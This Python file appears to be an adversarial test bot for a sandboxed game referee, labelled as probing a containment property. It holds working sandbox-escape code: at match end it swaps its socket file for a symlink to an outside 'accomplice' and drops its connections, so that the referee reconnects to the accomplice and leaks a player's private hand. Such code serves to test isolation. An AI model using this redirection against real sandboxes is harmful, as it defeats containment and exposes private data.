"""Hostile bot: redirects the referee to a socket outside its sandbox
(containment issue, property 3).

At the end of each match it replaces its socket file with a link to
ACCOMPLICE (a bot the attacker runs outside any sandbox) and then shuts
down every socket it holds, its listener included, so that gRPC reconnects
for the next match. A referee that reconnects by the path in the bot's
folder follows the link, and the accomplice plays that seat, receiving its
private hand. Plays as a random bot otherwise.

Usage: redirect.py ACCOMPLICE --socket PATH
"""

import os
import random
import socket
import sys
import threading
import time

from bots.sdk import Bot, serve

argv = sys.argv[1:]
SOCKET = argv[argv.index("--socket") + 1]
ACCOMPLICE = argv[0]


def redirect() -> None:
    time.sleep(0.1)  # let MatchEnd's stream finish
    try:
        os.unlink(SOCKET)
    except OSError as exc:
        print(f"unlink: {exc.strerror}", flush=True)
    os.symlink(ACCOMPLICE, SOCKET)
    for name in os.listdir("/proc/self/fd"):
        try:
            sock = socket.socket(fileno=int(name))
        except OSError:
            continue  # not a socket
        try:
            sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        sock.detach()
    print("redirected", flush=True)


class Redirect(Bot):
    name = "redirect"

    def decide(self, observation, legal_actions, context):  # type: ignore[no-untyped-def]
        return random.choice(legal_actions)

    def on_match_end(self, outcome):  # type: ignore[no-untyped-def]
        threading.Thread(target=redirect).start()


serve(Redirect(), ["--socket", SOCKET])
